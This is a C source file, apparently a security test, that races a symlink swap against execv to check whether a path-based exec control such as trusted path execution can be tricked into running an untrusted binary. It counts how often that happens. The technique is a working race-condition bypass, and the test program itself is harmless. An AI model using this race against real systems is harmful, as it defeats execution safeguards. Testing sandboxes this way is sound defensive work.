/* Race on TPE (and exec sandboxing) judging a program by its path: a child flips the symlink
 * LINK between TRUSTED and UNTRUSTED (rename(2) of a fresh link over it) while the parent runs
 * LINK N times. Each run program reports the file it is (/proc/self/exe, mode `whoami`) on the
 * pipe... here on stdout. Prints `trusted T untrusted U failed F`: U > 0 means the untrusted
 * program ran. Usage: attack_exec_swap LINK TRUSTED UNTRUSTED N | attack_exec_swap whoami */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "whoami") == 0) {
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) return 3;
    self[n] = 0;
    /* The exit code tells which: 10 trusted dir (no "/ww/"), 11 untrusted. */
    return strstr(self, "/ww/") ? 11 : 10;
  }
  if (argc != 5) return 2;
  const char *link = argv[1];
  long runs = atol(argv[4]);
  char tmp[4096];
  snprintf(tmp, sizeof tmp, "%s.tmp", link);
  pid_t flipper = fork();
  if (flipper == 0) {
    for (unsigned long i = 0;; i++) {
      unlink(tmp);
      if (symlink(argv[2 + (i & 1)], tmp) == 0) rename(tmp, link);
    }
  }
  long trusted = 0, untrusted = 0, failed = 0;
  for (long i = 0; i < runs; i++) {
    pid_t pid = fork();
    if (pid == 0) {
      char *args[] = {(char *)link, "whoami", NULL};
      execv(link, args);
      _exit(4);
    }
    int status = 0;
    if (waitpid(pid, &status, 0) < 0) return 3;
    if (WIFEXITED(status) && WEXITSTATUS(status) == 10)
      trusted++;
    else if (WIFEXITED(status) && WEXITSTATUS(status) == 11)
      untrusted++;
    else
      failed++;
  }
  kill(flipper, SIGKILL);
  waitpid(flipper, NULL, 0);
  printf("trusted %ld untrusted %ld failed %ld\n", trusted, untrusted, failed);
  return 0;
}
